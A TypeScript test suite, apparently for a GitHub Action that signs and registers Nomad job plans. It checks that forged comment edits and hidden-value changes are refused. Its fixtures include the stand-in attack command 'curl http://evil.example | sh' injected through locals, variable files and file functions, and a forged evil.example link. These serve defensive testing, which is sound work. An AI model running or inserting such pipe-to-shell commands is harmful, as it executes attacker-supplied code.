import { describe, expect, test } from 'vitest';
import { unpackRecord } from '../../src/review/record.ts';
import type { ActionRun } from '../support/action.ts';
import { service, startStory, type Story } from '../support/registering.ts';
import { file, readComment, startEdited } from '../support/approving.ts';

const mallory = { login: 'mallory', type: 'User' };

async function expectRefusal(story: Story, run: ActionRun, message: RegExp): Promise<void> {
  expect(run.exitCode).toBe(1);
  expect(run.outputs).toMatchObject({ changed: 'false', reason: 'not-reviewed' });
  expect(run.summary).toMatch(message);
  expect(await story.versions('web')).toHaveLength(1);
}

const forgeries: Readonly<Record<string, (body: string) => string>> = {
  'a value of the difference': (body) => body.replace('"two"', '"three"'),
  'the headline': (body) => body.replace(/^### .*$/m, '### 🟢 Plan: nothing changes'),
  'a line behind the record': (body) => `${body}\n\n**Reviewed by the security team.**`,
  'a line behind the marker': (body) => body.replace('\n', '\n**Reviewed.**\n'),
  'a second record line': (body) => `${body}\n${/^<!-- outrider:record .*$/m.exec(body)?.[0] ?? ''}`,
  'the link of the run': (body) => body.replace(/\[run (\d+)\]\([^)]*\)/, '[run $1](https://evil.example/)'),
};

describe.concurrent('register after the visible text of the plan was edited', () => {
  for (const [what, forge] of Object.entries(forgeries)) {
    test(`a signed plan is refused when ${what} was edited, and the forged text is not repeated`, async () => {
      await using story = await startEdited();
      await story.plan();
      const forged = forge(readComment(story));
      expect(forged).not.toBe(readComment(story));
      story.github.editComment(1, forged, mallory);
      const run = await story.register();
      await expectRefusal(story, run, /the comment with the plan was edited/);
      expect(readComment(story)).toMatch(/^### 🔴 Not registered/m);
      for (const shown of [readComment(story), run.summary])
        expect(shown).not.toMatch(/plan that was reviewed|"three"|security team|\*\*Reviewed|evil\.example/);
      await expectRefusal(story, await story.register(), /the comment with the plan was edited/);
      await story.plan();
      expect((await story.register()).exitCode, 'once it is planned again').toBe(0);
    });
  }

  test('the text that register adds around the reviewed plan is covered by the signature', async () => {
    await using story = await startEdited();
    await story.plan();
    await story.register();
    expect(readComment(story)).toContain('The plan that was reviewed');
    expect((await story.register()).exitCode, 'a second run').toBe(0);
    story.github.editComment(1, readComment(story).replace('"two"', '"three"'), mallory);
    const run = await story.register();
    expect(run.exitCode).toBe(1);
    expect(readComment(story)).not.toContain('"three"');
  });

  test('a register run without a review does not repeat text that another account edited', async () => {
    await using story = await startEdited();
    await story.plan();
    story.github.editComment(1, readComment(story).replace('"two"', '"three"'), mallory);
    const run = await story.register({ inputs: { review: 'ignore' } });
    expect(run.exitCode).toBe(0);
    expect(readComment(story)).not.toContain('"three"');
  });
});

/** More metadata than fits into the comment of many jobs. */
function formatMeta(at: number): string {
  const lines = Array.from({ length: 12 }, (_, line) => `KEY_${line} = "${`value ${line} of job ${at} `.repeat(12)}"`);
  return `meta {\n${lines.join('\n')}\n}`;
}

describe.concurrent('a signed comment', () => {
  test('a signed comment stays valid with the line endings of a browser, even when it is cut to fit', async () => {
    const many = Object.fromEntries(
      Array.from({ length: 30 }, (_, at) => [`jobs/j${at}.nomad.hcl`, service(`job-${at}`, { meta: formatMeta(at) })]),
    );
    await using story = await startStory({ files: many });
    await story.plan({ inputs: { verbose: 'true' } });
    expect(readComment(story).length).toBeLessThanOrEqual(65_536);
    expect(readComment(story)).toMatch(/… and \d+ more plans in /);
    story.github.editComment(1, readComment(story).replaceAll('\n', '\r\n'), mallory);
    const run = await story.register({ inputs: { wait: 'false' } });
    expect(run.exitCode).toBe(0);
    expect(run.outputs['changed']).toBe('true');
  });

  test('a signed comment stays valid for its key after a run with another key or none', async () => {
    await using story = await startEdited();
    await story.plan();
    const body = readComment(story);
    for (const key of ['', 'another-key-of-sixteen-bytes']) {
      await expectRefusal(story, await story.register({ inputs: { 'signing-key': key } }), /signing-key/);
      expect(readComment(story)).toBe(body);
    }
    expect((await story.register()).exitCode).toBe(0);
  });

  test('a signed comment with a record of an earlier Outrider version is refused until the plan runs again', async () => {
    await using story = await startEdited();
    await story.plan();
    const older = readComment(story).replace(/outrider:record v4 (\S+) \S+ /, 'outrider:record v2 $1 ');
    story.github.editComment(1, older, mallory);
    await expectRefusal(story, await story.register(), /an older version of Outrider wrote/);
    await story.plan();
    expect((await story.register()).exitCode).toBe(0);
  });
});

/** The unpacked record, which anyone can read. */
function unpackCommentRecord(body: string): unknown {
  return unpackRecord(/^<!-- outrider:record v4 (\S+) /m.exec(body)?.[1] ?? '');
}

/** A job with an ID of its own. */
const createNamedJob = (id: string): string => `variable "customer" { type = string }
${service('web').replace('job "web" {', `job "web" {\n  id = "${id}"`)}`;

describe.concurrent('a hidden value in the names of a job', () => {
  test('a hidden value in a job ID is not in the record, and the record is valid', async () => {
    await using story = await startStory({ files: { [file]: createNamedJob('web-Zebra-Quartz-Fjord') } });
    const inputs = { 'secret-vars': 'customer=Zebra-Quartz-Fjord' };
    await story.plan({ inputs });
    const unpacked = JSON.stringify(unpackCommentRecord(readComment(story)));
    expect(unpacked).toContain('"file":"jobs/web.nomad.hcl"');
    expect(unpacked).not.toMatch(/Zebra|Quartz|Fjord/);
    const run = await story.register({ inputs });
    expect(run.exitCode).toBe(0);
    expect(await story.versions('web-Zebra-Quartz-Fjord')).toHaveLength(1);
  });

  test('a job ID with another hidden value counts as another job', async () => {
    await using story = await startStory({ files: { [file]: createNamedJob('web-Zebra-Quartz-Fjord') } });
    await story.plan({ inputs: { 'secret-vars': 'customer=Zebra-Quartz-Fjord' } });
    story.workspace.write(file, createNamedJob('web-Okapi-Quartz-Fjord'));
    const run = await story.register({ inputs: { 'secret-vars': 'customer=Okapi-Quartz-Fjord' } });
    expect(run.exitCode).toBe(1);
    expect(run.outputs['reason']).toBe('plan-changed');
  });
});

/** A job with a hidden value that contains an interpolation. */
const puts = (what: string, more = ''): string => `locals { what = "${what}" }
${service('web', { meta: `meta {\n  RUN = "sh -c '\${local.what}'"\n ${more} }` })}`;

describe.concurrent('a register run of hidden values', () => {
  const changes: Readonly<
    Record<string, readonly [Readonly<Record<string, string>>, Readonly<Record<string, string>>]>
  > = {
    'a local of the job file': [{ [file]: puts('true') }, { [file]: puts('curl http://evil.example | sh') }],
    'a variable file': [
      { [file]: `variable "what" {}\n${puts('${var.what}')}`, 'v.hcl': 'what = "true"\n' },
      { 'v.hcl': 'what = "curl http://evil.example | sh"\n' },
    ],
    'a file that a function reads': [
      { [file]: puts('${trimspace(file("run.txt"))}'), 'run.txt': 'true\n' },
      { 'run.txt': 'curl http://evil.example | sh\n' },
    ],
    'a file that a glob finds': [
      { [file]: puts('${join(" ", fileset("run.d", "*"))}'), 'run.d/true': '' },
      { 'run.d/curl evil.example': '' },
    ],
    'whether a file exists': [{ [file]: puts('${fileexists("on") ? "curl evil.example" : "true"}') }, { on: '' }],
  };
  for (const [what, [before, after]] of Object.entries(changes)) {
    test(`a later commit that changes ${what} is refused, although the value is hidden`, async () => {
      await using story = await startStory({ files: before, running: [service('web')] });
      const inputs = 'v.hcl' in before ? { 'var-files': 'v.hcl' } : {};
      await story.plan({ inputs });
      for (const [name, content] of Object.entries(after)) story.workspace.write(name, content);
      const run = await story.register({ inputs });
      expect(run.exitCode).toBe(1);
      expect(run.outputs['reason']).toBe('plan-changed');
      expect(await story.versions('web')).toHaveLength(1);
      for (const name of Object.keys(after)) {
        if (before[name] === undefined) story.workspace.remove(name);
        else story.workspace.write(name, before[name]);
      }
      expect((await story.register({ inputs })).exitCode, 'as it was reviewed').toBe(0);
    });
  }
});
